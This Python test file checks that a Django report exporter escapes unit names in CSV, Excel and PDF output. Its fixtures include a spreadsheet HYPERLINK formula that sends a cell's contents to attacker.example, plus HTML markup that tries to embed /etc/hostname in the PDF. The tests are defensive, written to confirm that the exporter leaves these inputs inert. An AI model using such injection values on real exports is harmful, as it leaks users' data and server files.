"""Names and text in exports are data, never code: a unit named like a formula stays text in CSV and Excel, and
markup in a name neither breaks the report PDF nor embeds a local image in it."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from indices.escaping import escape_workbook, spreadsheet_cell
from indices.exports_report import build_report_csv, build_report_pdf, build_report_xlsx
from indices.reports import build_province_report
from tests import factories

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
MARKUP = 'Sở <b>Nội vụ</b> <img src="/etc/hostname"/> & <font'


@pytest.fixture
def hostile_units(world):
    group = factories.make_group(code="-khoi", name="@SUM(1+1)")
    formula = factories.make_unit(group=group, code="cong-thuc", name=FORMULA, short_name="=1+1")
    markup = factories.make_unit(group=group, code="the-html", name=MARKUP, short_name="<b>Nội vụ")
    factories.make_cchc_score(unit=formula, year=2024, points=81)
    factories.make_cchc_score(unit=markup, year=2024, points=66)
    return build_province_report(year=2024)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Sở Tư pháp", "", -1.5, 42, None, "a=b"])
def test_other_values_pass_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_csv_report_cells_are_never_formulas(hostile_units):
    rows = list(csv.reader(io.StringIO(build_report_csv(hostile_units).decode("utf-8-sig"))))

    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]


def test_excel_report_cells_are_text_not_formulas(hostile_units):
    workbook = load_workbook(io.BytesIO(build_report_xlsx(hostile_units)))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + FORMULA in [cell.value for cell in cells]


def test_escape_workbook_turns_formula_cells_into_text():
    workbook = Workbook()
    workbook.active.append(["=1+2", "Sở", 3.5])

    escape_workbook(workbook)

    a1, b1, c1 = workbook.active[1]
    assert (a1.value, a1.data_type) == ("'=1+2", "s")
    assert (b1.value, c1.value) == ("Sở", 3.5)


def test_markup_in_a_name_neither_breaks_the_pdf_nor_embeds_an_image(hostile_units):
    reader = PdfReader(io.BytesIO(build_report_pdf(hostile_units)))

    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "<b>Nội vụ</b>" in text and '<img src="/etc/hostname"' in text
    images = [image for page in reader.pages for image in page.images]
    assert images == []
